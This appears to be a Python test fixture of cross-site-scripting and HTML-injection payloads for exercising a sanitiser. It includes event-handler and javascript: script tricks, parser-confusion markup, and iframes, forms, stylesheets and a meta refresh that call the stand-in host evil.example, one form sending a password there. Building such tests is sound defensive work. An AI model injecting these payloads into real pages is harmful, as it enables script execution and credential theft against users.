"""What a submission may bring to attack the reader of a page: for the sanitiser, and for a real browser."""

MARKUP = (
    "<script>document.title = 'run'</script>",
    "<img src=x onerror=\"document.title = 'run'\">",
    "<img src='https://evil.example/pixel.png' srcset='https://evil.example/2.png 2x'>",
    "<svg onload=\"document.title = 'run'\"><script>document.title = 'run'</script></svg>",
    "<svg><style><img src=x onerror=\"document.title = 'run'\"></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title = 'run'\">",
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='run'>\">",
    "<a href=\"javascript:document.title = 'run'\">여기</a>",
    "<a href=\" java\nscript:document.title = 'run'\">여기</a>",
    "<a href='data:text/html,<script>1</script>'>여기</a>",
    "<iframe src='https://evil.example/'></iframe><iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "<object data='https://evil.example/a.swf'></object><embed src='https://evil.example/b.swf'>",
    "<form action='https://evil.example/'><input name=password autofocus onfocus=\"document.title='run'\"></form>",
    "<link rel=stylesheet href='https://evil.example/a.css'><base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "</style></main></body><style>main { display: none } @import 'https://evil.example/a.css';</style>",
    "<div style=\"position: fixed; inset: 0; background: url('https://evil.example/a.png')\">덮개</div>",
    "<details open ontoggle=\"document.title = 'run'\"><summary>열기</summary></details>",
    "<video src='https://evil.example/a.mp4' autoplay></video><audio src='https://evil.example/a.mp3'></audio>",
    "<p id=q1 name=main class=total>이름 빼앗기</p>",
    "<!--><script>document.title = 'run'</script>-->",
    "<template><script>document.title = 'run'</script></template>",
    "<marquee onstart=\"document.title = 'run'\">지나가는 글</marquee>",
    '<table background="https://evil.example/a.png"><tr><td background=https://evil.example/b.png>칸',
    "<image href='https://evil.example/a.png'/><svg><image href='https://evil.example/a.png'/></svg>",
)
SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' width='40' height='40' onload=\"document.title='run'\">"
    "<script>document.title = 'run'</script><image href='https://evil.example/a.png' width='9' height='9'/>"
    "<circle cx='20' cy='20' r='15' fill='green'/></svg>"
)
NAME = '"><img src=x onerror="document.title=\'run\'">&amp;{{ 7 * 7 }}'
